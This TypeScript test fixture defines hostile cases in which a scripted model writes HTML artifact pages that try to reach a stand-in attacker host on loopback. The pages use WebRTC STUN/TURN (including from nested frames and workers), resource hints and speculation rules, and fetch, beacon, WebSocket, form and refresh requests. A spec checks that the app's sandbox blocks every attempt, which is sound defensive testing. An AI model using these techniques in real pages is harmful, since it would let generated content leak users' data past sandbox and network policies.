/**
 * Hostile class `artifact-network`: HTML artifact pages that try to open a
 * socket to the attacker's host, each through channels Chromium opens without
 * a request the app or Playwright would see — WebRTC (STUN over UDP, TURN
 * over TCP, from the page and from a frame nested in it) and resource hints
 * (preconnect, dns-prefetch, prefetch, prerender, modulepreload, speculation
 * rules, static and made by script) — plus every request channel the page's
 * policy already refuses (images, scripts, fetch, XHR, WebSocket,
 * EventSource, beacon, ping, form, meta refresh, window.open, workers, CSS
 * `@import` and `url()`). The model writes the page with `write_file`; the
 * panel runs it in its sandboxed frame; e2e/hostile/artifact-network.spec.ts
 * listens on loopback (e2e/support/loopback-attacker.ts) and asserts that no
 * packet and no connection arrives.
 *
 * Each case has a port of its own on the attacker host, so a hit names its
 * case. The ports follow the app's (E2E_PORT), which both the spec and the
 * hostile model server read from the environment Playwright gives them.
 * When a page has tried everything, it tells the app's page by postMessage
 * (`{ artifactNetworkProbe: <id>, tried: [...] }`): its script ran, so an
 * empty listener means the page was held, not that it never started.
 */
import { toolReply, type HostileCase } from "../hostile-case";

/** The attacker's host: loopback, but not the app's 127.0.0.1, so nothing the app does lands there. */
export const ARTIFACT_ATTACKER_HOST = "127.0.0.2";

/** The first attacker port: past the app's port and the hostile model's (E2E_PORT + 1). */
const ATTACKER_PORT_OFFSET = 20;

/** The attacker port of the case at `index`. */
export function artifactAttackerPort(index: number): number {
  return Number(process.env.E2E_PORT ?? 3200) + ATTACKER_PORT_OFFSET + index;
}

/** A page that runs each attempt (any error is caught and noted) and then reports to its parent. */
function probePage(id: string, head: string, attempts: Record<string, string>, body = ""): string {
  const steps = Object.entries(attempts)
    .map(([name, code]) => `  try { ${code}\n    tried.push(${JSON.stringify(name)}); } catch (error) { tried.push(${JSON.stringify(name)} + " refused: " + (error && error.name)); }`)
    .join("\n");
  return `<!doctype html>
<html lang="en">
<head>
<title>Network probe ${id}</title>
${head}
</head>
<body>
<h1>Network probe</h1>
<p id="status">Probing…</p>
${body}
<script>
  // Markup is built from lt at run time: a "<tag" written in this text would be neutralised with the page.
  const lt = String.fromCharCode(60);
  const tried = [];
${steps}
  setTimeout(() => {
    document.getElementById("status").textContent = "Probe finished: " + tried.length + " attempts.";
    parent.postMessage({ artifactNetworkProbe: ${JSON.stringify(id)}, tried }, "*");
  }, 400);
</script>
</body>
</html>
`;
}

/** A peer connection to the attacker as STUN and TURN-over-TCP server, offering a data channel so ICE gathering starts. */
function peerConnection(constructor: string, attacker: string): string {
  return `const pc = new ${constructor}({ iceServers: [{ urls: "stun:${attacker}" }, { urls: "turn:${attacker}?transport=tcp", username: "u", credential: "c" }] });
    pc.createDataChannel("out"); pc.createOffer().then((offer) => pc.setLocalDescription(offer)).catch(() => {});`;
}

type ProbeSpec = { name: string; title: string; head?: string; body?: string; attempts: (attacker: string) => Record<string, string> };

const PROBES: ProbeSpec[] = [
  {
    name: "webrtc",
    title: "an RTCPeerConnection (and webkitRTCPeerConnection) with the attacker as STUN and TURN-over-TCP server",
    attempts: (attacker) => ({
      RTCPeerConnection: peerConnection("RTCPeerConnection", attacker),
      webkitRTCPeerConnection: peerConnection("webkitRTCPeerConnection", attacker),
    }),
  },
  {
    name: "webrtc-nested",
    title: "a fresh RTCPeerConnection from a nested frame: srcdoc script, a copy of the page's own script, about:blank's contentWindow, a javascript: frame, a Worker",
    body: `<iframe title="static nested page" srcdoc="&lt;script&gt;${peerConnection("RTCPeerConnection", "ATTACKER").replace(/"/g, "&quot;")}&lt;/script&gt;"></iframe>`,
    attempts: (attacker) => ({
      srcdocScript: `const frame = document.createElement("iframe"); frame.srcdoc = lt + "script>" + ${JSON.stringify(peerConnection("RTCPeerConnection", attacker))} + lt + "/script>"; document.body.append(frame);`,
      srcdocByMarkup: `const holder = document.createElement("div"); holder.innerHTML = lt + 'iframe srcdoc="' + (lt + "script>" + ${JSON.stringify(peerConnection("RTCPeerConnection", attacker))} + lt + "/script>").replace(/"/g, "&quot;") + '">' + lt + "/iframe>"; document.body.append(holder);`,
      copyOfOwnScript: `const holder = document.createElement("div"); holder.innerHTML = lt + 'iframe srcdoc="' + (lt + "script>" + document.scripts[0].textContent + lt + "/script>").replace(/&/g, "&amp;").replace(/"/g, "&quot;") + '">' + lt + "/iframe>"; document.body.append(holder);`,
      aboutBlankWindow: `const blank = document.body.appendChild(document.createElement("iframe")); const Fresh = blank.contentWindow.RTCPeerConnection; ${peerConnection("Fresh", attacker)}`,
      javascriptFrame: `const frame = document.createElement("iframe"); frame.src = "javascript:" + JSON.stringify(lt + "script>" + ${JSON.stringify(peerConnection("RTCPeerConnection", attacker))} + lt + "/script>"); document.body.append(frame);`,
      worker: `new Worker(URL.createObjectURL(new Blob(["fetch('http://${attacker}/worker')"], { type: "text/javascript" })));`,
    }),
  },
  {
    name: "hints-static",
    title: "resource hints in the page's markup: preconnect, dns-prefetch, prefetch, prerender, preload, modulepreload, speculation rules, a declarative shadow root's preconnect",
    head: [
      `<link rel="preconnect" href="http://ATTACKER/">`,
      `<LINK REL=dns-prefetch HREF="//ATTACKER/">`,
      `<link rel="prefetch" href="http://ATTACKER/prefetch">`,
      `<link rel="prerender" href="http://ATTACKER/prerender">`,
      `<link rel="preload" as="image" href="http://ATTACKER/preload.png">`,
      `<link rel="modulepreload" href="http://ATTACKER/module.js">`,
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://ATTACKER/speculated"]}],"prerender":[{"source":"list","urls":["http://ATTACKER/prerendered"]}]}</script>`,
    ].join("\n"),
    body: `<div><template shadowrootmode="open"><link rel="preconnect" href="http://ATTACKER/"></template></div>`,
    attempts: () => ({ markupOnly: `void 0;` }),
  },
  {
    name: "hints-script",
    title: "preconnects made by the page's script: createElement, a namespace prefix, innerHTML, insertAdjacentHTML, DOMParser, an XML document, document.write, a srcdoc frame's link",
    attempts: (attacker) => {
      const link = `lt + ${JSON.stringify(`link rel=preconnect href="http://${attacker}/">`)}`;
      return {
        createElement: `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://${attacker}/"; document.head.append(l);`,
        namespacePrefix: `const l = document.createElementNS("http://www.w3.org/1999/xhtml", "h:link"); l.setAttribute("rel", "preconnect"); l.setAttribute("href", "http://${attacker}/"); document.head.append(l);`,
        innerHTML: `const d = document.createElement("div"); d.innerHTML = ${link}; document.body.append(d);`,
        insertAdjacentHTML: `document.body.insertAdjacentHTML("beforeend", ${link});`,
        domParser: `const parsed = new DOMParser().parseFromString(${link}, "text/html"); document.head.append(document.adoptNode(parsed.querySelector("link")));`,
        xmlDocument: `const xml = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link"); xml.documentElement.setAttribute("rel", "preconnect"); xml.documentElement.setAttribute("href", "http://${attacker}/"); document.head.append(document.adoptNode(xml.documentElement));`,
        documentWrite: `document.write(${link});`,
        rangeFragment: `document.body.append(document.createRange().createContextualFragment(${link}));`,
        setHTMLUnsafe: `const d = document.createElement("div"); d.setHTMLUnsafe(${link}); document.body.append(d);`,
        srcdocLink: `const f = document.createElement("iframe"); f.srcdoc = ${link}; document.body.append(f);`,
      };
    },
  },
  {
    name: "requests",
    title: "every request channel: img, script, CSS @import/url()/font, fetch, XHR, WebSocket, EventSource, beacon, ping, form submit, meta refresh, window.open",
    head: `<meta http-equiv="refresh" content="1;url=http://ATTACKER/refresh">
<style>@import url(http://ATTACKER/import.css); body { background: url(http://ATTACKER/background.png); } @font-face { font-family: probe; src: url(http://ATTACKER/font.woff); } p { font-family: probe; }</style>`,
    body: `<img alt="" src="http://ATTACKER/pixel.png"><script src="http://ATTACKER/script.js"></script><a id="ping" href="#here" ping="http://ATTACKER/ping">here</a><form id="form" action="http://ATTACKER/form" method="post"><input name="stolen" value="1"></form>`,
    attempts: (attacker) => ({
      fetch: `fetch("http://${attacker}/fetch", { mode: "no-cors" }).catch(() => {});`,
      xhr: `const x = new XMLHttpRequest(); x.open("GET", "http://${attacker}/xhr"); x.send();`,
      webSocket: `new WebSocket("ws://${attacker}/socket");`,
      eventSource: `new EventSource("http://${attacker}/events");`,
      beacon: `navigator.sendBeacon("http://${attacker}/beacon", "stolen");`,
      ping: `document.getElementById("ping").click();`,
      form: `document.getElementById("form").submit();`,
      windowOpen: `window.open("http://${attacker}/popup");`,
      image: `new Image().src = "http://${attacker}/image.png";`,
    }),
  },
];

/** The pages' paths (one per case), for the spec to find each page's frame. */
export function artifactProbePath(name: string): string {
  return `network-probe-${name}.html`;
}

/** The class's cases, in order; case `index` calls out only to `artifactAttackerPort(index)`. */
export const ARTIFACT_NETWORK_CASES: readonly HostileCase[] = PROBES.map((probe, index) => {
  const attacker = `${ARTIFACT_ATTACKER_HOST}:${artifactAttackerPort(index)}`;
  const id = `artifact-net-${probe.name}`;
  const fill = (text: string) => text.replace(/ATTACKER/g, attacker);
  const content = probePage(id, fill(probe.head ?? ""), probe.attempts(attacker), fill(probe.body ?? ""));
  return {
    id,
    class: "artifact-network",
    title: probe.title,
    steps: toolReply({ name: "write_file", input: { path: artifactProbePath(probe.name), content }, after: `The page ${artifactProbePath(probe.name)} is written.` }),
    expect: { replyShows: [`The page ${artifactProbePath(probe.name)} is written.`] },
    ownChat: true,
    dependsOn: "issue 25 items 1-2: artifact pages with no path out (WebRTC, resource hints)",
  } satisfies HostileCase;
});
